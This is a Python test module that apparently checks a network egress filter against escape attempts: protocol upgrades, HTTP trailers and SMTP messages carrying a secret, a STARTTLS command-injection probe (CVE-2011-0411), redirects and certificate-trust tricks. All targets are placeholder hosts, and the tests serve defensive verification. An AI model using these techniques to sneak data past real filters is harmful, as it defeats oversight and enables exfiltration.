"""Lines 22 to 26: other protocols within HTTP, mail, redirects, and clients that trust somebody else."""

import smtplib
import socket
import ssl
from typing import Any

from childproof.escape.h2 import Stream, h2_statuses
from childproof.escape.table import AROUND, Closed, Elsewhere, add, attempt, denied
from childproof.escape.talk import SECRET, datagram, exchange, fetch, get, over_tls, secure, unverified
from childproof.escape.ways import WAIT, Way

_JUDGED = ("HTTP/1.1 403", "HTTP/1.1 501")


@attempt("22a", Closed(_JUDGED, "GET http://ws.example/"))
def websocket(way: Way) -> str:
    """An upgrade."""
    upgrade = "Upgrade: websocket\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Version: 13\r\n"
    return exchange(way, "ws.example", 80, get("ws.example", "/", upgrade).replace(b"close", b"Upgrade"))


@attempt("22a", Closed(_JUDGED, "GET https://ws.allowed.example/private"))
def websocket_to_an_allowed_host(way: Way) -> str:
    """An upgrade over TLS at a host that rules allow for something else."""
    upgrade = "Upgrade: websocket\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Version: 13\r\n"
    request = get("ws.allowed.example", "/private", upgrade).replace(b"close", b"Upgrade")
    return over_tls(way, "ws.allowed.example", request)


@attempt("22b", denied("GET http://h2c.example/"))
def h2c_by_upgrade(way: Way) -> str:
    """An offer of HTTP/2 without TLS."""
    upgrade = "Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA\r\n"
    return exchange(way, "h2c.example", 80, get("h2c.example", "/", upgrade))


@attempt("22b", Closed(("403", "reset", "closed", "ConnectionResetError"), "203.0.113.42"))
def h2c_by_prior_knowledge(way: Way) -> str:
    """HTTP/2 without TLS and without asking."""
    return " ".join(h2_statuses(way, "203.0.113.42", Stream("203.0.113.42", "/"), plain=True))


@attempt("22c", Closed(("403", "200"), "POST https://grpc.example/pkg.Service/Call"))
def grpc(way: Way) -> str:
    """A unary call: HTTP/2, a message, `te: trailers`. Its refusal may be gRPC's own: 200 with a `grpc-status`."""
    headers = (("content-type", "application/grpc"), ("te", "trailers"))
    stream = Stream("grpc.example", "/pkg.Service/Call", headers, b"\0\0\0\0\x05hello")
    return " ".join(h2_statuses(way, "grpc.example", stream))


@attempt("22d", denied("GET http://events.example/stream"))
def server_sent_events(way: Way) -> str:
    """A stream of events."""
    return exchange(way, "events.example", 80, get("events.example", "/stream", "Accept: text/event-stream\r\n"))


@attempt("22e", Closed(("HTTP/1.1 100", "HTTP/1.1 403"), "POST http://expect.example/"))
def expect_100_continue(way: Way) -> str:
    """A body that waits for a word; the word is ours."""
    with way.dial("expect.example", 80) as sock:
        sock.sendall(get("expect.example", "/", "Content-Length: 5\r\nExpect: 100-continue\r\n", "POST"))
        first = sock.recv(100)
        sock.sendall(b"hello")
        return (first + sock.recv(300)).decode("latin-1")


@attempt("22f", denied("POST http://trailers.example/"))
def request_trailers(way: Way) -> str:
    """Headers that come after the body."""
    body = b"5\r\nhello\r\n0\r\nX-Late: " + SECRET.encode() + b"\r\n\r\n"
    return exchange(
        way, "trailers.example", 80, get("trailers.example", "/", "Transfer-Encoding: chunked\r\n", "POST") + body
    )


@attempt("22f", Closed(("403", "reset", "closed"), "trailers2.example"))
def http2_trailers(way: Way) -> str:
    """The same in HTTP/2."""
    stream = Stream("trailers2.example", "/x", (("te", "trailers"),), b"hello", (("x-late", SECRET),))
    return " ".join(h2_statuses(way, "trailers2.example", stream))


# --- mail


class _Mail(smtplib.SMTP):
    """A mail client that goes this way; with TLS from the first byte if it has a context."""

    def __init__(self, way: Way, host: str, port: int, context: ssl.SSLContext | None = None) -> None:
        self._way, self._context = way, context
        super().__init__(host, port, timeout=WAIT)

    def _get_socket(self, host: str, port: int, timeout: Any) -> socket.socket:
        del timeout
        sock = self._way.dial(host, port)
        return self._context.wrap_socket(sock, server_hostname=host) if self._context else sock


def _send(client: smtplib.SMTP) -> str:
    refused = client.sendmail("a@example.com", ["b@example.com"], f"Subject: {SECRET}\r\n\r\nhello\r\n")
    client.quit()
    return f"accepted, {len(refused)} refused"


@attempt("23a", Closed(("accepted, 0",), "smtp.example:25", "stub"))
def mail(way: Way) -> str:
    """A message: the stub takes it, and it stays here."""
    return _send(_Mail(way, "smtp.example", 25))


@attempt("23b", Closed(("accepted, 0",), "smtps.example:465", "stub"))
def mail_over_tls(way: Way) -> str:
    """The same, encrypted from the first byte."""
    return _send(_Mail(way, "smtps.example", 465, unverified()))


@attempt("23c", Closed(("accepted, 0",), "starttls.example:587", "stub"))
def mail_with_starttls(way: Way) -> str:
    """The same, encrypted when both are ready."""
    client = _Mail(way, "starttls.example", 587)
    client.starttls(context=unverified())
    return _send(client)


@attempt("23d", Closed(("220 nothing 250",), "SMTP pipelined.example:587", "stub"))
def commands_behind_starttls(way: Way) -> str:
    """Commands sent in the clear behind STARTTLS must not be taken for ones that came encrypted (CVE-2011-0411)."""
    with way.dial("pipelined.example", 587) as sock:
        file = sock.makefile("rb")
        file.readline()
        sock.sendall(b"EHLO x\r\n")
        while not file.readline().startswith(b"250 "):
            pass
        sock.sendall(b"STARTTLS\r\nMAIL FROM:<evil@example.com>\r\n")
        answer = file.readline()[:4].decode()
        with unverified().wrap_socket(sock, server_hostname="pipelined.example") as tls:
            tls.sendall(b"NOOP\r\n")
            first = tls.recv(200).decode()
            return f"{answer}nothing {first}" if first.startswith("250") and first.count("\n") == 1 else first


# --- onwards


@attempt("24a", Closed(("HTTP/1.1 302 then HTTP/1.1 403",), "GET http://elsewhere.example/after", reached=("GET redirect.reached.example/public/redirect",)))  # fmt: skip
def a_redirect(way: Way) -> str:
    """The client follows where the allowed host sends it: that is another call."""
    host = "redirect.reached.example"
    first = fetch(way, host, "/public/redirect")
    target = first.lower().partition("location: http://")[2].partition("\r\n")[0].partition("/")
    return f"{first[:12]} then {fetch(way, target[0], '/' + target[2])[:12]}"


@attempt("24b", Closed(("HTTP/1.1 200 without",), "GET http://altsvc.reached.example/public/altsvc", "allow", ("GET altsvc.reached.example/public/altsvc",)))  # fmt: skip
def alt_svc(way: Way) -> str:
    """A reply that offers HTTP/3: the offer is taken out."""
    host = "altsvc.reached.example"
    answer = fetch(way, host, "/public/altsvc")
    return f"{answer[:12]} {'with' if 'alt-svc' in answer.lower() else 'without'}"


@attempt("24b", direct=Closed(("ConnectionRefusedError",), "UDP 203.0.113.48:443"), proxied=AROUND)
def http3_all_the_same(way: Way) -> str:
    """A client that has taken such an offer long ago."""
    del way
    return datagram("203.0.113.48", 443, bytes([0xC0, 0, 0, 0, 1]) + bytes(1195))


# --- certificates


@attempt("25a", Closed(("seen",), "TCP pinned.allowed.example:443"))
def a_pinned_certificate(way: Way) -> str:
    """The handshake, a look at the certificate, and away without a request."""
    with secure(way, "pinned.allowed.example") as sock:
        return "seen" if sock.getpeercert(binary_form=True) else "no certificate"


add(
    "25b",
    "a_server_that_wants_a_certificate",
    None,
    direct=Elsewhere(
        "tests/escape/test_mutual_tls.py::test_a_host_that_wants_a_client_certificate_gets_none_of_the_request"
    ),
    proxied=Elsewhere(
        "tests/escape/test_mutual_tls.py::test_a_host_that_wants_a_client_certificate_gets_none_of_the_request"
    ),
)


@attempt("26a", denied("GET https://insecure.allowed.example/private"))
def a_client_that_ignores_our_authority(way: Way) -> str:
    """As `curl -k`: judged all the same."""
    return over_tls(way, "insecure.allowed.example", get("insecure.allowed.example", "/private"))


@attempt("26b", Closed(("SSLCertVerificationError",), "TCP distrust.allowed.example:443"))
def a_client_that_trusts_nobody(way: Way) -> str:
    """A bundle of its own, without our authority."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    host = "distrust.allowed.example"
    with context.wrap_socket(way.dial(host, 443), server_hostname=host) as sock:
        return str(sock.version())
